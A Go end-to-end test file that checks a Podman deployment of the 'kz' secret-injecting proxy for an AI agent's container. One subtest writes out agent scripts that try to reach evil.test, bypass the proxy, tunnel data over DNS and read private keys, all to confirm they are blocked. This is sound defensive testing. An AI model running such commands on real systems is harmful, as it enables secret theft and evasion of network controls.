package e2e_test

import (
	"bytes"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"kz/test/bed"
)

// tryEngine does in Podman what the files of cmd/kz/deploy are for.
func tryEngine(t *testing.T) {
	b := bed.New(t)
	world := newOuter(t, b)
	e := newEngine(t, outerAddress)
	join("world", e.network, "198.51.100.2/24", world.network, "198.51.100.1/24")
	e.ip("route", "add", "default", "via", "198.51.100.1")
	e.build()
	for _, part := range []struct {
		name string
		try  func(*testing.T, *engine, *bed.Bed, *outer)
	}{{"the image", tryBuilt}, {"a machine with an engine", tryEngineTopic}, {"compose", tryEngineCompose}, {"kubernetes", tryEnginePod}} {
		t.Run(part.name, func(t *testing.T) {
			b.Origin.Reset()
			world.forget()
			mine := *e
			mine.t = t
			part.try(t, &mine, b, world)
			mine.podman("rm", "--force", "--all", "--time=0")
			mine.podman("network", "prune", "--force")
		})
	}
}

// tryBuilt looks at the image that Buildah has made of the Dockerfile.
func tryBuilt(t *testing.T, e *engine, _ *bed.Bed, _ *outer) {
	if got := e.podman("inspect", "--format", "{{.Config.User}} {{.Config.Entrypoint}} {{.Config.WorkingDir}} {{.HealthCheck.Test}}", "kz"); got != "65532:65532 [/kz] /etc/kz [CMD /kz status --health 9465]" {
		t.Errorf("it has %s", got)
	}
	flags := []string{"podman", "run", "--rm", "--network=none", "--read-only", "--read-only-tmpfs=false", "--cap-drop=all", "--security-opt=no-new-privileges"}
	if res := e.try(append(flags, "kz")...); res.Code != 0 || !strings.Contains(string(res.Stdout), "compose.yaml") {
		t.Errorf("it prints %d %s", res.Code, res.Output())
	}
	if res := e.try(append(flags, "--entrypoint=/bin/sh", "kz", "-c", "echo A SHELL")...); res.Code != 127 || strings.Contains(string(res.Stdout), "A SHELL") {
		t.Errorf("it has a shell: %d %s", res.Code, res.Output())
	}
}

func tryEngineCompose(t *testing.T, e *engine, b *bed.Bed, world *outer) {
	config, value := containerConfig(t, b)
	c := engineCompose{e: e, composition: theComposition(t)}
	c.up(t, config)
	const curl = "curl -sS -m 20 "
	const get = curl + `-f -H "Authorization: Bearer $API_KEY" https://api.test/echo`
	c.start("long", get+"; while [ ! -e /tmp/go ]; do sleep 0.1; done; "+get)
	bed.Eventually(t, "the agent's first request is answered", func() bool { return len(b.Origin.Requests()) == 1 })
	if got := received(t, b, "/echo")[0].Header.Get("Authorization"); got != "Bearer "+value {
		t.Error("the origin did not get the value")
	}

	t.Run("the only way out is the proxy", func(t *testing.T) {
		python := bed.Python(t)
		res := c.agent(curl + `--noproxy '*' --connect-timeout 3 http://` + outerAddress + `/ && echo OUT
` + curl + `-k --noproxy '*' --connect-timeout 3 --resolve api.test:443:` + outerAddress + ` https://api.test/echo && echo OUT
` + python + ` -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("` + outerAddress + `", 53))' && echo OUT
` + python + ` -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(bytes.fromhex("000101000001000000000000056c65616b73046576696c0474657374000001 0001"), ("172.30.250.1", 53)); s.recv(512)' && echo OUT
` + curl + `-f https://evil.test/ && echo OUT
grep -E 'CapEff|NoNewPrivs' /proc/self/status; for f in ca.pem client.env new; do echo x >/kz/$f && echo WRITTEN; done; env; cat /kz/* | grep -a 'PRIVATE KEY'`)
		out := string(res.Stdout)
		if strings.Contains(out, "OUT\n") || strings.Contains(out, "WRITTEN") || strings.Contains(out, "PRIVATE KEY") || !strings.Contains(out, "CapEff:\t0000000000000000\nNoNewPrivs:\t1\n") || !mask.MatchString(out) {
			t.Errorf("%s", res.Output())
		}
		if reached := world.reachedBy(); len(reached) > 0 || len(b.Origin.Requests()) != 1 {
			t.Errorf("it was reached by %s and %d requests: %s", reached, len(b.Origin.Requests()), res.Output())
		}
		b.Clean(res)
	})
	t.Run("what the engine tells of the containers, and what the agent's holds, has no value", func(t *testing.T) {
		said := e.try("/bin/sh", "-ec", "podman inspect kz long; podman logs kz; podman logs long; podman exec long cat /proc/1/environ; podman export long | tar -tf -; podman export long; podman secret inspect vault_token")
		if said.Code != 0 || !bytes.Contains(said.Stdout, []byte("KZ_VAULT_TOKEN_FILE=/run/secrets/vault_token")) || !mask.Match(said.Stdout) {
			t.Errorf("it tells %d %s", said.Code, said.Stderr)
		}
		b.Clean(said)
	})
	t.Run("a kz that was stopped ends well, and is started again with the CA that it had", func(t *testing.T) {
		before := e.podman("exec", "long", "cat", "/kz/ca.pem")
		e.podman("stop", "--time="+strings.TrimSuffix(c.Services["kz"].StopGracePeriod, "s"), "kz")
		if code := e.podman("inspect", "--format", "{{.State.ExitCode}}", "kz"); code != "0" { // 137 when its time is over
			t.Errorf("it ends with %s", code)
		}
		if res := e.try("podman", "healthcheck", "run", "kz"); res.Code == 0 {
			t.Error("it is healthy when it does not run")
		}
		e.podman("start", "kz")
		c.healthy(t)
		if after := e.podman("exec", "long", "cat", "/kz/ca.pem"); before == "" || before != after {
			t.Error("the CA is another one")
		}
		e.podman("exec", "long", "touch", "/tmp/go")
		if code := e.podman("wait", "long"); code != "0" || len(received(t, b, "/echo")) != 2 {
			t.Errorf("the agent ends with %s: %s", code, e.try("podman", "logs", "long").Output())
		}
	})
	t.Run("while it stops it is not healthy", func(t *testing.T) {
		c.start("hanging", curl+"https://api.test/hang")
		bed.Eventually(t, "the request is there", func() bool { return len(b.Origin.Requests()) == 3 })
		e.podman("kill", "--signal=TERM", "kz")
		bed.Eventually(t, "its health turns bad", func() bool {
			res := e.try("podman", "exec", "kz", "/kz", "status", "--health", "9465")
			return res.Code == 1 && strings.Contains(res.Output(), "not ready: stopping")
		})
		if res := e.try("podman", "healthcheck", "run", "kz"); res.Code == 0 {
			t.Error("the engine says that it is healthy")
		}
		e.podman("kill", "--signal=TERM", "kz")
		if code := e.podman("wait", "kz"); code != "0" {
			t.Errorf("it ends with %s", code)
		}
		b.Clean(e.try("podman", "logs", "kz"))
	})
}

// engineCompose is compose.yaml, asked of an engine by hand.
type engineCompose struct {
	composition
	e     *engine
	flags []string // of the agent's container
}

// walls are the flags of a service that both containers have.
func (s service) walls() (flags []string) {
	for _, c := range s.CapDrop {
		flags = append(flags, "--cap-drop="+c)
	}
	for _, o := range s.SecurityOpt {
		name, _, _ := strings.Cut(o, ":")
		flags = append(flags, "--security-opt="+name)
	}
	if s.ReadOnly {
		flags = append(flags, "--read-only", "--read-only-tmpfs=false")
	}
	if s.User != "" {
		flags = append(flags, "--user="+s.User)
	}
	for _, g := range s.GroupAdd {
		flags = append(flags, "--group-add="+g)
	}
	return flags
}

func (c *engineCompose) up(t *testing.T, config string) {
	t.Helper()
	e, kz := c.e, c.Services["kz"]
	for name, n := range c.Networks {
		args := []string{"network", "create"}
		if n.Internal {
			args = append(args, "--internal", "--disable-dns") // as the topic says of Podman
		}
		for _, s := range n.IPAM.Config {
			args = append(args, "--subnet="+s.Subnet)
		}
		e.podman(append(args, name)...)
	}
	args := slices.Concat([]string{"run", "-d", "--name=kz", "--hostname=kz"}, kz.walls())
	for name, n := range kz.Networks {
		network := "--network=" + name
		if n.Address != "" { // as Docker does, but Podman not, the same link address at each start: neighbours remember it for a while
			network += ":mac=02:42:ac:1e:fa:02,ip=" + n.Address
		}
		args = append(args, network)
	}
	for name, v := range kz.Environment {
		args = append(args, "-e", name+"="+v)
	}
	for _, name := range kz.Secrets {
		e.podman("secret", "create", name, filepath.Join(config, "token"))
		args = append(args, "--secret="+name)
	}
	for _, v := range kz.Volumes {
		if rest, found := strings.CutPrefix(v, "./kz.toml:/etc/kz/kz.toml"); found {
			v = config + ":/etc/kz" + rest
		}
		args = append(args, "-v", v)
	}
	e.podman(slices.Concat(args, []string{kz.Image}, kz.Command)...)
	c.healthy(t)

	agent := c.Services["agent"]
	image := strings.TrimSuffix(strings.TrimPrefix(agent.Image, "${AGENT_IMAGE:-"), "}")
	c.flags = slices.Concat(e.agentImage("docker.io/library/"+image, "", nil), agent.walls())
	for _, v := range agent.Volumes {
		c.flags = append(c.flags, "-v", v)
	}
	for name := range agent.Networks {
		c.flags = append(c.flags, "--network="+name)
	}
	c.flags = append(c.flags, image)
	for _, word := range agent.Entrypoint {
		c.flags = append(c.flags, strings.ReplaceAll(word, "$$", "$"))
	}
}

func (c *engineCompose) healthy(t *testing.T) {
	t.Helper()
	var res bed.Result
	defer func() {
		if res.Code != 0 {
			t.Logf("its health check says %s, kz %s", res.Output(), c.e.try("podman", "logs", "kz").Output())
		}
	}()
	bed.Eventually(t, "kz is healthy", func() bool {
		res = c.e.try("podman", "healthcheck", "run", "kz")
		return res.Code == 0
	})

}

// agent runs a script in a container of the agent's service, as `docker compose run --rm` does.
func (c *engineCompose) agent(script string) bed.Result {
	return c.e.try(slices.Concat([]string{"podman", "run", "--rm"}, c.flags, []string{"/bin/sh", "-c", script})...)
}

// start leaves it running.
func (c *engineCompose) start(name, script string) {
	c.e.t.Helper()
	c.e.podman(slices.Concat([]string{"run", "-d", "--name=" + name}, c.flags, []string{"/bin/sh", "-c", script})...)
}
